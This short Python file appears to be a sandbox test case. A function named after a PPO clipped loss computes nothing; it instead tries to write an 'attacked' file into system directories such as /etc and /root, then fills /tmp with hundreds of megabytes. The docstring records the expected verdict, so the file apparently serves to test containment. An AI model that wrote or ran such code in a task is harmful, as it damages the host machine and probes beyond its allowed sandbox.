"""5. Writes wherever something can be written, until it is full.

task = "ppo_clip_loss"
verdict = ["raised", "out_of_memory"]
twin = "scratch_file"
needs = ["files", "totals"]
"""
import os
from contextlib import suppress


def ppo_clip_loss(logp, old_logp, adv, mask, eps_low=0.2, eps_high=0.2, dual_c=None, reduction="token"):
    for folder in ("/", "/root", "/home", "/opt", "/opt/sandbox", "/var", "/var/tmp", "/etc", "/usr/lib", "/run"):
        with suppress(OSError), open(os.path.join(folder, "attacked"), "wb") as file:
            file.write(b"x")
            print("REACHED the disk in", folder)
    with open("/tmp/attacked", "wb", buffering=0) as file:
        for _ in range(4096):
            file.write(b"x" * 2**20)
            if file.tell() > 256 * 2**20:
                print("REACHED more than the folder may hold")
                break
